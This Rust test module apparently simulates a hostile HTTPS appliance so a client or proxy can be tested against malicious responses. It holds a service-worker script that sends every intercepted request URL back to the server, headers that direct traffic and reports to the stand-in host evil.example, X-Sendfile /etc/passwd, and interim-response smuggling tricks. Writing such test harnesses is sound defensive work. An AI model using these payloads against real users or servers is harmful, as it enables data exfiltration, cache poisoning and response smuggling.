//! The hostile appliance itself: HTTPS under a good certificate, and every header that might harm.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex, PoisonError};

use hawser_simulator::https::certificates::Presented;
use hawser_simulator::https::{self, Options};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::task::JoinHandle;

/// Its id in the list of appliances.
pub const ID: &str = "evil";

/// The answer to whatever is no attack of its own.
pub const BODY: &str = r#"{"value":[]}"#;

/// Runs if anybody lets it, and tells the appliance.
const SCRIPT: &str = "globalThis.evil = 1; fetch('/api/evil/rest/hvc/links/ran');
    globalThis.oninstall = () => globalThis.skipWaiting?.();
    globalThis.onfetch = (event) => fetch('/api/evil/rest/hvc/links/ran', { method: 'POST', body: event.request.url });";

const PAGE: &str = "<!doctype html><title>evil</title>
    <meta http-equiv=refresh content='0; url=/api/evil/rest/hvc/links/ran'>
    <script>document.title = 'evil'; fetch('/api/evil/rest/hvc/links/ran');
    navigator.serviceWorker.register('/api/evil/rest/hvc/links/worker', { scope: '/' });</script>
    <script src=/api/evil/rest/hvc/links/script></script>";

/// On every answer. The first belongs to the API.
const HEADERS: &str = "X-VCAV-Auth: a-session\r
Set-Cookie: evil=1; Path=/; Secure\r
Set-Cookie: worse=1; Path=/; Secure; HttpOnly\r
Clear-Site-Data: \"cache\", \"cookies\", \"storage\"\r
Service-Worker-Allowed: /\r
Service-Worker-Navigation-Preload: true\r
Refresh: 0; url=https://evil.example/\r
Link: </api/evil/rest/hvc/links/ran>; rel=preload; as=script\r
Alt-Svc: h2=\"evil.example:443\"; ma=86400\r
NEL: {\"report_to\":\"evil\",\"max_age\":86400}\r
Report-To: {\"group\":\"evil\",\"max_age\":86400,\"endpoints\":[{\"url\":\"https://evil.example/\"}]}\r
Reporting-Endpoints: evil=\"https://evil.example/\"\r
Expect-CT: max-age=86400, report-uri=\"https://evil.example/\"\r
Public-Key-Pins: max-age=86400\r
Strict-Transport-Security: max-age=0\r
Content-Security-Policy: script-src * 'unsafe-inline'\r
Content-Security-Policy-Report-Only: default-src 'none'; report-uri https://evil.example/\r
X-Frame-Options: ALLOWALL\r
X-XSS-Protection: 1; report=https://evil.example/\r
X-UA-Compatible: IE=5\r
X-Content-Type-Options: no\r
X-DNS-Prefetch-Control: on\r
X-Powered-By: evil\r
Server: evil/6.6.6\r
Referrer-Policy: unsafe-url\r
Permissions-Policy: camera=*\r
Feature-Policy: camera *\r
Document-Policy: js-profiling\r
Cross-Origin-Opener-Policy: unsafe-none\r
Cross-Origin-Embedder-Policy: unsafe-none\r
Cross-Origin-Resource-Policy: cross-origin\r
Access-Control-Allow-Origin: *\r
Access-Control-Allow-Credentials: true\r
Access-Control-Expose-Headers: *\r
Timing-Allow-Origin: *\r
Origin-Agent-Cluster: ?0\r
Origin-Trial: evil\r
Accept-CH: Sec-CH-UA-Model\r
Critical-CH: Sec-CH-UA-Model\r
Speculation-Rules: \"/api/evil/rest/hvc/links/ran\"\r
Supports-Loading-Mode: credentialed-prerender\r
Attribution-Reporting-Register-Source: {}\r
Observe-Browsing-Topics: ?1\r
Set-Login: logged-in\r
Use-As-Dictionary: match=\"/*\"\r
No-Vary-Search: params\r
Secure-Session-Registration: (ES256);path=\"evil\"\r
WWW-Authenticate: Basic realm=\"evil\"\r
Proxy-Authenticate: Basic realm=\"evil\"\r
Authentication-Info: evil\r
SourceMap: /api/evil/rest/hvc/links/ran\r
Location: /api/vc-a/rest/hvc/links\r
Content-Location: /config.json\r
Cache-Control: public, max-age=86400\r
Expires: Tue, 19 Jan 2038 03:14:07 GMT\r
Pragma: public\r
Age: 1\r
Vary: *\r
Hawser-Request-Id: repeated\r
";

/// Headers that servers of different kinds obey.
const ACCELERATED: &str = "X-Accel-Redirect: /config.json\r
X-Accel-Expires: 86400\r
X-Accel-Limit-Rate: 1\r
X-Accel-Buffering: no\r
X-Accel-Charset: utf-7\r
X-Sendfile: /etc/passwd\r
";

/// A running hostile appliance.
pub struct HostileAppliance {
    pub address: SocketAddr,
    /// The certificate of its authority.
    pub authority: String,
    received: Arc<Mutex<Vec<String>>>,
    accepting: JoinHandle<()>,
}

impl Drop for HostileAppliance {
    fn drop(&mut self) {
        self.accepting.abort();
    }
}

impl HostileAppliance {
    pub async fn start() -> Self {
        let names = [format!("{ID}.hansekontor.example"), ID.to_owned()];
        let good = Box::new(|_: &str| Presented::Right);
        let prepared = https::prepare(&Options::default(), &[(ID, names)], good);
        let (certificates, acceptor) = prepared.expect("a certificate");
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a free port");
        let address = listener.local_addr().expect("an address");
        let received = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&received);
        let accepting = tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (acceptor, log) = (acceptor.clone(), Arc::clone(&log));
                tokio::spawn(async move {
                    if let Ok(stream) = acceptor.accept(stream).await {
                        answer(stream, &log).await;
                    }
                });
            }
        });
        Self {
            address,
            authority: certificates.authority().to_owned(),
            received,
            accepting,
        }
    }

    /// The heads of all requests.
    pub fn received(&self) -> Vec<String> {
        let received = self.received.lock();
        received.unwrap_or_else(PoisonError::into_inner).clone()
    }
}

/// Answers one request and ends the connection.
async fn answer(mut stream: impl AsyncRead + AsyncWrite + Unpin, log: &Mutex<Vec<String>>) {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        match stream.read_u8().await {
            Ok(byte) => head.push(byte),
            Err(_) => return,
        }
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
    log.lock()
        .unwrap_or_else(PoisonError::into_inner)
        .push(head);
    let (status, media, body, more) = match path.rsplit('/').next().unwrap_or_default() {
        "page" => ("200 OK", "text/html", PAGE, ""),
        "script" | "worker" => ("200 OK", "text/javascript", SCRIPT, ""),
        "redirect" => ("307 Temporary Redirect", "text/html", PAGE, ""),
        "accelerated" => ("200 OK", "application/json", BODY, ACCELERATED),
        _ => ("200 OK", "application/json", BODY, ""),
    };
    let length = body.len();
    let mut reply = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {media}\r\nContent-Length: {length}\r\n\
         Connection: close\r\n{HEADERS}{more}\r\n{body}"
    );
    // The length makes the answer a body of the interim one in the eyes of some servers.
    let interim = match path.rsplit('/').next().unwrap_or_default() {
        "hinted" => "103 Early Hints\r\n",
        "switched" => "101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: evil\r\n",
        _ => "",
    };
    if !interim.is_empty() {
        let length = reply.len();
        reply = format!("HTTP/1.1 {interim}Content-Length: {length}\r\n{HEADERS}\r\n{reply}");
    }
    // Whoever has gone does not read it.
    let _ = stream.write_all(reply.as_bytes()).await;
    let _ = stream.shutdown().await;
}
